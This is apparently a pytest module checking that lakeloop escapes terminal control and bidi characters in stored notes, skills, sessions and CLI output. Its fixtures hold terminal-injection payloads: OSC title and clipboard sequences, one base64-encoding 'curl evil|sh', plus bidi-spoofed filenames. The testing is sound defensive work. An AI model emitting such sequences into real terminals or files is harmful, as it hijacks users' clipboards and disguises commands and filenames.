"""No raw control character reaches the agent or a terminal from stored text, on both stores (the
embedded one and the Deeplake stand-in on a real PostgreSQL).

A prompt holding a terminal-title OSC, a screen clear and an OSC 52 clipboard write (plus a C1
CSI, DEL and bidi controls) is captured through ``hooks/run UserPromptSubmit``; a teammate's note
(with an OSC 52 sequence, bidi isolates and a CR, at a path holding bidi and C1 controls), a team
skill and a session (hostile id, hostile first prompt) are written straight to the store, as another
client could. (lakeloop's own Deeplake writes drop C0 controls from SQL literals, so on the
stand-in those rows are given their ESC, BEL and DEL by a raw SQL ``UPDATE``, as a client writing
its own SQL could.)
Everything is then read back the way the agent and the user read it:

* through ``hooks/run PreToolUse``: Read of ``/index.md``, the session file, the note and the skill;
  Grep (content, count, files); Glob; Bash ``cat``, ``grep``, ``head``, ``tail``, ``ls``, ``find``,
  ``wc``: the text checked is the answer file Claude Code would read, the Bash output of the
  allowed command, or the deny reason;
* through the CLI: ``lakeloop search`` (also ``--json``), ``sessions`` (also ``--json``), and
  ``logs`` after a hook logged a hostile skill name.

No character in U+0000-U+0008, U+000B-U+001F, U+007F-U+009F or a bidi control (nor any other
character ``lakeloop.textsafe`` escapes) may be in any of them; the escapes (``\\x1b``,
``\\u202e``) are visible instead, and matching, line numbers and
counts are those of the stored text.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
from pathlib import Path

import pytest

from lakeloop import paths
from lakeloop.cli.main import main
from lakeloop.store import open_store
from lakeloop.store.base import SkillRow
from lakeloop.store.memory_types import MemoryQuery, NoteRow
from lakeloop.textsafe import UNSAFE as TEXTSAFE
from tests.support.hooks import SESSION_ID, pretooluse_payload, run_hook, run_pretooluse
from tests.support.payloads import first_payload
from tests.support.waiting import wait_until

ATTACK = "\x1b]0;PWNED-TITLE\x07\x1b[2J\x1b]52;c;Y3VybCBldmlsfHNo\x07"
PROMPT = f"walrus deploy {ATTACK} then \u202egnp.exe\u202c with C1 \x9b31m and DEL \x7f end"
NOTE_PATH = "/notes/walrus-\u202etxt.exe-\x9b2J.md"  # C0 in a path: dropped by the stores
NOTE_TEXT = (
    "walrus note \x1b]52;c;Y3VybCBldmlsfHNo\x07 copied\n"
    "second \u2066isolated\u2069 \u200fmark\u200e \u061c line, tag\U000e0041\u200b\n"
    "third has a CR\r\n"
    "fourth walrus plain\n"
)
#: A NUL makes a file binary for grep (GNU prints "binary file matches", not its lines): apart.
NUL_NOTE = "a NUL \x00 here, and ESC \x1b[2J\n"
SKILL_BODY = (
    "---\nname: walrus-ops\ndescription: restart walrus \x1b]0;SKILL-TITLE\x07 safely\n---\n"
    "1. Run the walrus \x1b[31mred\x1b[0m check.\n"
)
HOSTILE_SID = "sid-\x1b]0;SESSION-TITLE\x07-\u202eevil"
M = "~/.deeplake/memory"
#: What may never be shown raw (characters, on decoded text).
UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def assert_clean(shown: str | bytes, where: str) -> str:
    """``shown`` decoded (strict UTF-8) holds no unsafe character; returns the text."""
    text = shown.decode("utf-8") if isinstance(shown, bytes) else shown
    bad = UNSAFE.search(text) or TEXTSAFE.search(text)
    around = text[max(0, bad.start() - 60) : bad.start() + 20] if bad else ""
    assert bad is None, f"{where}: raw {bad.group()!r} at {bad.start()}: {around!r}"
    return text


@pytest.fixture
def world(store_kind, tmp_path):
    """The hostile prompt captured through the real hook; the note, skill and hostile session row
    written to the store directly. Returns the project dir (cwd of the tool calls)."""
    project = tmp_path / "project"
    project.mkdir()
    prompt = first_payload("UserPromptSubmit")
    prompt.update(session_id=SESSION_ID, cwd=str(project), prompt=PROMPT)
    proc = run_hook("UserPromptSubmit", prompt)
    assert proc.stdout == b"" and proc.stderr == b""
    from lakeloop.capture.rows import session_row
    from lakeloop.identity import Identity

    with open_store() as store:
        embedded = store.name == "embedded"
        held = (lambda t: t) if embedded else hold
        store.insert_note(
            NoteRow(
                id="n" * 32,
                path=NOTE_PATH,
                text=held(NOTE_TEXT),
                author="mallory",
                project="project",
                date="2026-01-01T00:00:00.000Z",
            )
        )
        store.insert_note(
            NoteRow(
                id="m" * 32,
                path="/notes/walrus.md",
                text=held(NOTE_TEXT),
                author="mallory",
                project="project",
                date="2026-01-01T00:00:00.000Z",
            )
        )
        if embedded:  # PostgreSQL text cannot hold a NUL
            store.insert_note(
                NoteRow(
                    id="o" * 32,
                    path="/notes/nul.md",
                    text=NUL_NOTE,
                    author="mallory",
                    project="project",
                    date="2026-01-01T00:00:00.000Z",
                )
            )
        store.insert_skill(
            SkillRow(
                id="k1",
                name="walrus-ops",
                author="mallory",
                body=held(SKILL_BODY),
                scope="team",
                description=held("restart walrus \x1b]0;SKILL-TITLE\x07 safely"),
                created_at="2026-01-01T00:00:00Z",
            )
        )
        message = {
            "id": "hostile-sid-1",
            "session_id": held(HOSTILE_SID),
            "cwd": "/w/p",
            "hook_event_name": "UserPromptSubmit",
            "timestamp": "2026-01-02T00:00:00.000Z",
            "type": "user_message",
            "content": "walrus first prompt " + (ATTACK if embedded else PLACEHELD),
        }
        store.append_session_rows(
            [session_row(message, Identity(user="mallory", org_name="acme", workspace="default"))]
        )
        if not embedded:
            _raw_controls(store)

    def captured():
        with open_store() as store:
            records = store.memory_query(MemoryQuery(prefixes=("/sessions/",), listing=True, index=True))
        return [r.path for r in records if r.path.endswith(f"{SESSION_ID}.jsonl")]

    wait_until(captured, 60, "the hostile prompt to be stored")
    return project


def hold(text: str) -> str:
    """``text`` with ESC, BEL and DEL as placeholders (the stand-in: see the module docstring)."""
    return text.replace("\x1b", "<ESC>").replace("\x07", "<BEL>").replace("\x7f", "<DEL>")


PLACEHELD = hold(ATTACK)


def _raw_controls(store) -> None:
    """On the stand-in: turn ``<ESC>``, ``<BEL>``, ``<DEL>`` in note text and session messages into
    the control characters, as a client writing its own SQL could store them."""

    def swap(expr: str, esc: str, bel: str, dele: str) -> str:
        return f"replace(replace(replace({expr}, '<ESC>', {esc}), '<BEL>', {bel}), '<DEL>', {dele})"

    store._q(f"UPDATE {store._t['memory']} SET summary = {swap('summary', 'chr(27)', 'chr(7)', 'chr(127)')}")
    store._q(
        f"UPDATE {store._t['skills']} SET body = {swap('body', 'chr(27)', 'chr(7)', 'chr(127)')}, "
        f"description = {swap('description', 'chr(27)', 'chr(7)', 'chr(127)')}"
    )
    store._q(
        f"UPDATE {store._t['sessions']} SET message = "
        f"({swap('message::text', sql_u('001b'), sql_u('0007'), sql_u('007f'))})::jsonb"
    )


def sql_u(code: str) -> str:
    """An SQL string literal holding the JSON escape ``\\u<code>``."""
    return "'\\u" + code + "'"


def session_file() -> str:
    with open_store() as store:
        records = store.memory_query(MemoryQuery(prefixes=("/sessions/",), listing=True))
    return next(r.path for r in records if r.path.endswith(f"{SESSION_ID}.jsonl"))


def root() -> str:
    return str(Path.home() / ".deeplake" / "memory")


def answer(project: Path, tool: str, tool_input: dict) -> str:
    """What the agent sees for the call: the answer file's text (Read, Grep), the allowed command's
    output (Bash) or the reason (a deny, Glob); checked clean."""
    decision, out, proc = run_pretooluse(pretooluse_payload(tool, tool_input, project))
    assert proc.stderr == b"", proc.stderr[-2000:]
    assert_clean(proc.stdout, f"{tool} hook output")
    where = f"{tool} {json.dumps(tool_input, ensure_ascii=True)[:120]}"
    assert decision in ("allow", "deny"), (where, decision)
    spec = out["hookSpecificOutput"]
    if decision == "deny":
        return assert_clean(spec["permissionDecisionReason"], where)
    upd = spec["updatedInput"]
    if tool == "Bash":
        ran = subprocess.run(
            ["bash", "-c", upd["command"]], cwd=project, capture_output=True, timeout=30, env=dict(os.environ)
        )
        return assert_clean(ran.stdout + ran.stderr, where)
    answer_path = upd["file_path"] if tool == "Read" else upd["path"]
    return assert_clean(Path(answer_path).read_bytes(), where)


# ------------------------------------------------------------------------------------- memory path
def test_memory_answers_show_escapes_never_controls(world):
    project = world
    r = root()
    sess = r + session_file()

    index = answer(project, "Read", {"file_path": f"{r}/index.md"})
    assert "\\x1b]0;PWNED-TITLE\\x07\\x1b[2J\\x1b]52;c;Y3VybCBldmlsfHNo\\x07" in index, index  # the prompt cell
    assert "\\u202egnp.exe\\u202c" in index and "\\x9b31m" in index
    assert "\\x7f" in index or os.environ["LAKELOOP_STORE"] == "deeplake"  # lakeloop's Deeplake writes drop DEL
    assert "SKILL-TITLE" in index

    session = answer(project, "Read", {"file_path": sess})
    assert "PWNED-TITLE" in session and "\\u202e" in session and "\\x9b" in session

    note = answer(project, "Read", {"file_path": f"{r}/notes/walrus.md"})
    assert note.splitlines()[0] == "walrus note \\x1b]52;c;Y3VybCBldmlsfHNo\\x07 copied"
    assert "\\u2066isolated\\u2069 \\u200fmark\\u200e \\u061c line, tag\\U000e0041\\u200b" in note
    assert "a CR\\x0d" in note
    assert len(note.splitlines()) == NOTE_TEXT.count("\n")  # Read's offset/limit count the same lines

    if os.environ["LAKELOOP_STORE"] == "embedded":
        assert answer(project, "Read", {"file_path": f"{r}/notes/nul.md"}) == "a NUL \\x00 here, and ESC \\x1b[2J\n"
        answer(project, "Bash", {"command": f"grep -rn NUL {M}/notes"})  # binary for grep: clean either way
    skill = answer(project, "Read", {"file_path": f"{r}/skills/walrus-ops--mallory/SKILL.md"})
    assert "\\x1b[31mred\\x1b[0m" in skill

    # Grep: matched on the stored text, shown escaped; line numbers are the stored lines'
    content = answer(
        project,
        "Grep",
        {"pattern": "walrus|copied", "path": f"{r}/notes/walrus.md", "output_mode": "content", "-n": True},
    )
    assert content.splitlines() == ["1:walrus note \\x1b]52;c;Y3VybCBldmlsfHNo\\x07 copied", "4:fourth walrus plain"]
    ctl = answer(project, "Grep", {"pattern": "\x1b\\]52", "path": f"{r}/notes", "output_mode": "content"})
    assert "walrus-\\u202etxt.exe-\\x9b2J.md:1:walrus note \\x1b]52" in ctl  # a raw ESC in the pattern still matches
    count = answer(project, "Grep", {"pattern": "walrus", "path": f"{r}/notes", "output_mode": "count"})
    assert sorted(count.splitlines()) == sorted(
        [f"{r}/notes/walrus-\\u202etxt.exe-\\x9b2J.md:2", f"{r}/notes/walrus.md:2"]
    )
    files = answer(project, "Grep", {"pattern": "PWNED", "path": r, "output_mode": "files_with_matches"})
    assert sess in files
    whole = answer(project, "Grep", {"pattern": "PWNED", "path": r, "output_mode": "content", "-C": 1})
    assert "PWNED-TITLE" in whole

    glob = answer(project, "Glob", {"pattern": "**/*.md", "path": r})
    assert "walrus-\\u202etxt.exe-\\x9b2J.md" in glob

    # Bash: the same rules; counts are of the stored bytes
    cat = answer(project, "Bash", {"command": f"cat {M}/index.md"})
    assert "\\x1b]0;PWNED-TITLE\\x07" in cat
    grep = answer(project, "Bash", {"command": f"grep -rn walrus {M}/notes"})
    assert f"{r}/notes/walrus.md:1:walrus note \\x1b]52;c;Y3VybCBldmlsfHNo\\x07 copied" in grep
    assert f"{r}/notes/walrus-\\u202etxt.exe-\\x9b2J.md:4:fourth walrus plain" in grep
    assert "PWNED-TITLE" in answer(project, "Bash", {"command": f"grep -rn PWNED {M} | head -5"})
    assert "\\u2066" in answer(project, "Bash", {"command": f"head -n 2 {M}/notes/walrus.md"})
    assert "\\x0d" in answer(project, "Bash", {"command": f"tail -n 2 {M}/notes/walrus.md"})
    assert "walrus-\\u202etxt.exe-\\x9b2J.md" in answer(project, "Bash", {"command": f"ls {M}/notes"})
    assert "walrus-\\u202etxt.exe-\\x9b2J.md" in answer(project, "Bash", {"command": f"find {M} -name '*.md'"})
    wc = answer(project, "Bash", {"command": f"wc -c {M}/notes/walrus.md"})
    assert wc.split()[0] == str(len(NOTE_TEXT.encode()))
    wc_lines = answer(project, "Bash", {"command": f"cat {M}/notes/walrus.md | grep -c walrus"})
    assert wc_lines.strip() == "2"


def test_a_long_hostile_line_is_cut_after_escaping(world):
    """A Grep line made long by escapes stays under Claude Code's 500-byte limit."""
    with open_store() as store:
        embedded = store.name == "embedded"
        text = "walrus " + "\x1b\u202e" * 400 + " end\n"
        store.insert_note(
            NoteRow(
                id="l" * 32,
                path="/notes/long.md",
                text=text if embedded else hold(text),
                author="mallory",
                project="p",
                date="2026-01-01T00:00:00.000Z",
            )
        )
        if not embedded:
            _raw_controls(store)
    shown = answer(world, "Grep", {"pattern": "walrus", "path": f"{root()}/notes/long.md", "output_mode": "content"})
    line = shown.splitlines()[0]
    assert len(line.encode()) <= 480 and line.startswith("1:walrus \\x1b\\u202e") and "[line cut:" in line


# ------------------------------------------------------------------------------------------- CLI
def test_cli_search_sessions_and_logs_show_escapes(world, capsys):
    assert main(["search", "walrus", "--limit", "50"]) == 0
    out = assert_clean(capsys.readouterr().out, "search")
    assert "PWNED-TITLE" in out and "\\x1b" in out

    assert main(["search", "walrus", "--json", "--limit", "50"]) == 0
    raw = assert_clean(capsys.readouterr().out, "search --json")
    texts = " ".join(h["text"] for h in json.loads(raw))
    assert ATTACK in texts or "PWNED-TITLE" in texts  # --json keeps the data, as JSON escapes

    assert main(["sessions"]) == 0
    out = assert_clean(capsys.readouterr().out, "sessions")
    # the hostile first prompt is shown, inert (assert_clean); the session id is in --json
    assert "walrus deploy" in out and "]0;" in out
    assert main(["sessions", "--json"]) == 0
    raw = assert_clean(capsys.readouterr().out, "sessions --json")
    assert HOSTILE_SID in [s["session_id"] for s in json.loads(raw)["sessions"]]

    # a hook logs a hostile skill name (debug logging); the log file holds it raw, `logs` does not
    skill = first_payload("PreToolUse", "Skill")
    skill["tool_input"] = {"skill": "evil\x1b]52;c;Y3VybA==\x07\x1b[2J"}
    run_hook("PreToolUse", skill, LAKELOOP_DEBUG="1")
    assert "\x1b]52;c;Y3VybA==" in paths.log_file().read_text(encoding="utf-8")
    capsys.readouterr()
    assert main(["logs", "-n", "500"]) == 0
    out = assert_clean(capsys.readouterr().out, "logs")
    assert "evil\\x1b]52;c;Y3VybA==\\x07" in out


def test_session_start_notices_show_escapes():
    """A notice holding stored text (a pulled skill's name) reaches the user's terminal through
    SessionStart's systemMessage: escaped there too."""
    from lakeloop import notices

    assert notices.post_event("team skill walrus\x1b]0;NOTICE-TITLE\x07\u202e changed")
    proc = run_hook(
        "SessionStart",
        {"session_id": "s", "hook_event_name": "SessionStart", "source": "startup", "cwd": str(Path.home())},
    )
    message = json.loads(proc.stdout)["systemMessage"]
    assert_clean(message, "systemMessage")
    assert "walrus\\x1b]0;NOTICE-TITLE\\x07\\u202e changed" in message
